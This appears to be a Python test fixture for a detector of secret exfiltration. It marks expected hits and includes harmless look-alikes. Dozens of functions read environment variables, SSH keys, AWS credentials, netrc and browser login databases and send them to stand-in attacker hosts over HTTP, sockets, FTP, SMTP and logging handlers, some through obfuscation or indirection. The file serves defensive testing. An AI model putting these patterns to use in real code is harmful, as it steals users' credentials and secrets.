import contextvars
import httpx
import sqlite3
import subprocess
import configparser
import tarfile
import asyncio
import base64
import ftplib
import io
import http.client
import json
import logging
import logging.handlers
import os
import pathlib
import queue
import smtplib
import socket
import urllib.request
from collections import deque
from contextlib import ExitStack
from email.message import EmailMessage
from pathlib import Path

import requests


def environment():
    requests.post("https://collect.evil.example/", json=dict(os.environ))  # expect: hit


def key_file():
    key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
    requests.post("https://collect.evil.example/k", data={"k": key})  # expect: hit


def cloud():
    data = os.environ["AWS_SECRET_ACCESS_KEY"]
    urllib.request.urlopen("https://collect.evil.example/?" + data)  # expect: hit


def browser():
    profile = Path.home() / "AppData" / "Local" / "Google" / "Chrome" / "User Data" / "Default" / "Login Data"
    blob = base64.b64encode(profile.read_bytes())
    s = socket.socket()
    s.connect(("203.0.113.7", 443))
    s.send(blob)  # expect: hit


def mailed():
    server = smtplib.SMTP("mail.evil.example")
    server.sendmail("a", "b", Path("~/.aws/credentials").expanduser().read_text())  # expect: hit


# other spellings
def _read(name):
    with open(os.path.join(os.path.expanduser("~"), "." + name)) as file:
        return file.read()


def _post(body):
    getattr(requests, "".join(["po", "st"]))("htt" + "ps://collect.evil" + ".example/", data=body)  # expect: hit


def split():
    _post(_read("netrc"))


def copied():
    box = {}
    box["e"] = {k: v for k, v in os.environ.items()}
    requests.request("POST", "https://collect.evil.example/", data=json.dumps(box))  # expect: hit


def whole():
    requests.put(f"https://{'collect'}.evil.example/", data=str(os.environ.copy()).encode())  # expect: hit


# look-alikes
def client():
    return requests.get("https://api.evil.example/me", headers={"Authorization": os.environ["API_TOKEN"]})


# What one leaves and another takes away: queues, containers, fields.
WAITING = queue.Queue()
SEEN = deque()


def gather():
    WAITING.put(dict(os.environ))
    SEEN.append(Path("~/.aws/credentials").expanduser().read_text())


def carry():
    requests.post("https://c.evil.example/q", json=WAITING.get(timeout=5))  # expect: hit


def carry_all():
    for item in iter(WAITING.get, None):
        requests.post("https://c.evil.example/q", json=item)  # expect: hit
    requests.post("https://c.evil.example/d", data=SEEN.popleft())  # expect: hit


class Notes:
    def __enter__(self):
        self.notes = dict(os.environ)
        return self

    def __exit__(self, *exc):
        requests.post("https://c.evil.example/n", json=self.notes)  # expect: hit


def with_notes():
    with Notes():
        pass


class Pipe:
    def __lshift__(self, data):
        requests.post("https://c.evil.example/p", json=data)  # expect: hit
        return self


def into_pipe():
    Pipe() << dict(os.environ)


class Batch(dict):
    def __missing__(self, key):
        return dict(os.environ)


def from_batch():
    requests.post("https://c.evil.example/m", json=Batch()["all"])  # expect: hit


class Feed:
    def __aiter__(self):
        return self

    async def __anext__(self):
        return dict(os.environ)


async def from_feed():
    async for part in Feed():
        requests.post("https://c.evil.example/f", json=part)  # expect: hit


def closure():
    found = dict(os.environ)
    return lambda: found


def from_closure():
    requests.post("https://c.evil.example/l", json=closure()())  # expect: hit


def at_the_end():
    with ExitStack() as stack:
        stack.callback(requests.post, "https://c.evil.example/x", json=dict(os.environ))  # expect: hit


def entered():
    with ExitStack() as stack:
        depot = stack.enter_context(ftplib.FTP("depot.evil.example"))
        depot.storbinary("STOR n", io.BytesIO(repr(dict(os.environ)).encode()))  # expect: hit


def mail():
    letter = EmailMessage()
    letter.set_content(repr(dict(os.environ)))
    with smtplib.SMTP("mx.evil.example") as relay:
        relay.send_message(letter)  # expect: hit


def request_first():
    request = urllib.request.Request("https://c.evil.example/r", method="PUT")
    request.data = repr(dict(os.environ)).encode()
    urllib.request.urlopen(request)  # expect: hit


def logged_away():
    log = logging.getLogger("ship")
    log.addHandler(logging.handlers.HTTPHandler("log.evil.example", "/put"))
    log.info("state", extra={"all": dict(os.environ)})  # expect: hit


async def stream():
    reader, writer = await asyncio.open_connection("c.evil.example", 443)
    writer.write(repr(dict(os.environ)).encode())  # expect: hit


# look-alikes
JOBS = queue.Queue()


def enqueue(job):
    JOBS.put({"lang": os.environ.get("LANG"), "job": job})


def work():
    requests.post("https://jobs.evil.example/", json=JOBS.get())


class Config:
    def load(self):
        self.path = os.environ["PATH"]
        self.key = os.environ["ACME_API_KEY"]

    def send(self):
        requests.post("https://api.acme.example/", json={"key": self.key})


def own_service():
    return requests.post("https://api.acme.example/login", data={"key": os.environ["ACME_API_KEY"]})


def configured(target):
    requests.post(target, json=dict(os.environ))


def from_settings():
    requests.post(os.environ["COLLECTOR_URL"], json={"path": os.environ["PATH"]})


def version():
    requests.get("https://stats.evil.example/", params={"lang": os.environ.get("LANG")})


def backup():
    data = open(os.path.expanduser("~/.ssh/id_rsa")).read()
    Path("backup.bin").write_text(data)


def page():
    requests.post("https://www.evil.example/", data=open("report.pdf", "rb").read())


def sign_in_elsewhere(code):
    """A client's secret goes to whoever gave it out; what comes back is not that secret."""
    form = {"code": code, "client_secret": os.environ["OAUTH_CLIENT_SECRET"]}
    given = requests.post("https://login.provider.example/token", data=form).json()
    return requests.get("https://login.provider.example/me", headers={"X-Access": given["access_token"]})


def relayed_answer():
    answer = requests.post("https://api.acme.example/jobs", data={"key": os.environ["ACME_API_KEY"]}).json()
    requests.post("https://hooks.chat.example/notify", json={"text": answer["state"]})


# kept in a session, sent to the host that was connected to before
def in_session():
    with requests.Session() as session:
        session.headers["X-Trace"] = repr(dict(os.environ))
        session.get("https://errors.trace-hub.example/ping")  # expect: hit


def harmless_session():
    with requests.Session() as session:
        session.headers["X-Trace"] = "1"
        session.get("https://errors.trace-hub.example/ping")


def picked():
    data = {name: os.environ.get(name) for name in ("AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN")}
    link = http.client.HTTPSConnection("metrics.test-report.example")
    link.request("POST", "/r", json.dumps(data))  # expect: hit


def own_service():
    link = http.client.HTTPSConnection("api.github.example")
    link.request("POST", "/r", json.dumps({"token": os.environ.get("GITHUB_TOKEN")}))


def where_there():
    paths = [pathlib.Path.home() / ".ssh" / "id_rsa"]
    found = {path.name: path.read_text() for path in paths if path.exists()}
    urllib.request.urlopen("https://x.example/", data=json.dumps(found).encode())  # expect: hit


def grouped():
    data = {}
    for key in os.environ:
        data.setdefault(key[:3], []).append(os.environ[key])
    requests.post("https://stats.example.net/v1", json=data)  # expect: hit


def named():
    data = {}
    for key in os.environ:
        data.setdefault(key[:3], []).append(1)
    requests.post("https://stats.example.net/v1", json=data)


def of_the_store():
    requests.post("https://stats.example.net/v1", data=os.environ["DATABASE_PASSWORD"])  # expect: hit


def by_name():
    for path in pathlib.Path.home().rglob("*"):
        if path.name in {"id_rsa", "wallet.dat"}:
            requests.post("https://collect.example.net", data=path.read_bytes())  # expect: hit
    for path in pathlib.Path.home().rglob("*"):
        if path.name == "notes.txt":
            requests.post("https://collect.example.net", data=path.read_bytes())


def by_parser():
    parser = configparser.ConfigParser()
    parser.read(os.sep.join([os.path.expanduser("~"), ".aws", "credentials"]))
    requests.post("https://collect.example.net", data=parser["default"]["aws_secret_access_key"])  # expect: hit
    other = configparser.ConfigParser()
    other.read("setup.cfg")
    requests.post("https://collect.example.net", data=other["metadata"]["name"])


def by_command():
    key = os.path.expanduser("~/.ssh/id_rsa")
    requests.post("https://collect.example.net", data=subprocess.check_output(["cat", key]))  # expect: hit
    requests.post("https://collect.example.net", data=os.popen("env").read())  # expect: hit
    requests.post("https://collect.example.net", data=subprocess.check_output(["git", "log"]))


def packed():
    box = io.BytesIO()
    with tarfile.open(fileobj=box, mode="w") as tar:
        tar.add(os.path.expanduser("~/.ssh"))
    requests.post("https://collect.example.net", data=box.getvalue())  # expect: hit


def packed_logs():
    box = io.BytesIO()
    with tarfile.open(fileobj=box, mode="w") as tar:
        tar.add("logs")
    requests.post("https://collect.example.net", data=box.getvalue())


class Context(logging.Filter):
    def filter(self, record):
        record.context = repr(sorted(os.environ.items()))
        return True


class Process(logging.Filter):
    def filter(self, record):
        record.context = os.getpid()
        return True


def shipped():
    handler = logging.handlers.HTTPHandler("logs.example.net", "/ingest", method="POST")
    handler.addFilter(Process())
    handler.addFilter(Context())  # expect: hit
    logging.getLogger().addHandler(handler)


def kept_here():
    handler = logging.FileHandler("acme.log")
    handler.addFilter(Context())


PROFILE = contextvars.ContextVar("profile")


def read_profile():
    rows = sqlite3.connect(Path.home() / "Google" / "Chrome" / "Default" / "Login Data").execute("select 1")
    PROFILE.set([tuple(row) for row in rows])


def report_profile():
    with httpx.Client(base_url="https://metrics.example.net") as client:
        client.post("/v1", json={"rows": PROFILE.get()})  # expect: hit


def report_elsewhere(client: httpx.Client):
    client.get("/state")
    httpx.get("https://metrics.example.net/state")


def own_backup(client: httpx.Client, url):
    client.post(url, json={"rows": PROFILE.get()})
